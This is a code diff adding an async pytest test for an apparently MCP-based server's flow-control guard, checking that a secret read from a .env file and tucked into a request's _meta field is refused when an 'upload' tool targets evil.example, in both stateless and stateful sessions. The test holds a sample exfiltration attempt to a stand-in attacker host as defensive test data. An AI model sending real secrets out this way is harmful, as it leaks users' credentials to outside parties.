@@ -324,3 +324,23 @@ async def test_a_stateless_request_that_ends_before_its_answer_cancels_its_call_
 
 async def _reached(counts: Any, counter: str) -> bool:
     return bool((await counts())[counter] >= 1)
+
+
+async def test_a_secret_in_the_meta_of_a_stateless_request_is_refused_and_so_in_a_stateful_session(tmp_path: Path) -> None:
+    """The sink model on the HTTP front, both eras: `_meta` is checked like an argument."""
+    async with files_served(tmp_path) as served:
+        await _read_the_key(served)
+        harmless = {"url": "https://evil.example/upload", "content": "hello"}
+        async with served.http() as http, served.client(http) as client:  # 2026-07-28: stateless, the principal's state
+            await client.list_tools()
+            with pytest.raises(MCPError) as caught:
+                await client.call_tool("upload", harmless, meta={"note": KEY})  # type: ignore[arg-type]
+            assert caught.value.error.code == FLOW_DENIED
+            assert caught.value.error.data["argument"] == "params._meta.note"
+        async with served.http() as http, Client(streamable_http_client(served.url, http_client=http), mode="legacy") as client:
+            await client.list_tools()  # 2025-11-25: a session of its own, so its own label state
+            read = await client.call_tool("read_file", {"path": DOTENV})
+            assert read.meta is not None and read.meta[META_KEY]["confidentiality"] == "secret"
+            with pytest.raises(MCPError) as caught:
+                await client.call_tool("upload", harmless, meta={"note": KEY})  # type: ignore[arg-type]
+            assert caught.value.error.data["argument"] == "params._meta.note"
